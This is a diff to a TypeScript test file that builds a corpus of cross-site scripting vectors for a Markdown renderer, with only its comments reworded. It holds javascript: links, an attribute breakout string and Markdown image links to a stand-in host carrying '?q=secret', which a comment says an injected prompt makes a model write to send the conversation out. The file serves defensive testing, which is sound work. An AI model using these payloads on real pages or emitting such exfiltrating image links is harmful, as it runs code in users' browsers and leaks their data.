@@ -1,15 +1,15 @@
 import { attackCode, elsewhere, xssMarkup } from './xss-markup.ts'
 
 /**
- * Ways to run code, to load something or to change the page by a text: whichever works sets
- * `globalThis.hacked`, opens a dialog, or asks `elsewhere.example` for something. Own writing: each
- * vector in several spellings and places.
+ * Texts that try to run code, to load something or to change the page. If one works, it sets `globalThis.hacked`, opens
+ * a dialog, or sends a request to `elsewhere.example`. Written for this project: each vector in several spellings and
+ * places.
  */
 export function xssCorpus(): string[] {
   return [...new Set([...xssMarkup(), ...links(), ...images(), ...templates(), ...brokenOut()])]
 }
 
-/** Links in the syntaxes of Markdown to addresses that must not be followed. */
+/** Forbidden addresses in every link syntax of Markdown. */
 function links(): string[] {
   const addresses = [
     `javascript:${attackCode}`,
@@ -73,7 +73,7 @@ function links(): string[] {
   ]
   return [
     ...addresses.flatMap((address, index) =>
-      // All addresses as a link, and each in some of the other syntaxes.
+      // Each address as a plain link, and in two of the other syntaxes.
       [0, 1 + (index % 6), 1 + ((index + 2) % 6)].map((place) => syntaxes[place]!(address)),
     ),
     `[**a** \`b\`](javascript:${attackCode})`,
@@ -85,7 +85,7 @@ function links(): string[] {
   ]
 }
 
-/** What a model is made to write by an injected prompt, to carry the conversation away. */
+/** An injected prompt makes a model write these, to send the conversation elsewhere. */
 function images(): string[] {
   return [
     `![](${elsewhere}/?q=secret)`,
@@ -121,7 +121,7 @@ function templates(): string[] {
   ]
 }
 
-/** Out of the places in which a text stands: attributes, cells, fences, headings. */
+/** Texts that try to break out of their place: attributes, cells, fences, headings. */
 function brokenOut(): string[] {
   const out = [
     `" onmouseover="${attackCode}" x="`,
